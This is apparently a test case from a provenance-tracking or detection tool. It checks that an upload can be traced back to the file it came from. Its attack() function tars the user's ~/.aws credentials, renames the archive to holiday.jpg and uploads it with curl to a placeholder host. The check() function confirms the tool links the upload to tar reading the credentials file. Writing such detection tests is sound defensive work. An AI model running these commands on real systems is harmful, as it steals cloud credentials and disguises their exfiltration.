# SPDX-License-Identifier: Apache-2.0
TITLE="who wrote the file that leaked: the chain goes through a renamed archive"
FORM=daemon
attack() {
	tar czf a.tgz -C "$HOME" .aws
	mv a.tgz holiday.jpg
	setsid curl -s -m $((15 * EGRET_SLOW)) -T holiday.jpg "$URL/holiday.jpg"
}
check() {
	local id
	id=$(told kind=prompt "destination=$SINK4:80" 'exe=*/curl') || return
	why "$id" role=subject 'exe=*/curl' -- role=cause source=derived 'exe=*/curl' 'path=*/holiday.jpg' -- \
		role=cause source=read comm=tar 'path=*/.aws/credentials' || return
	why "$id" role!=gap
}
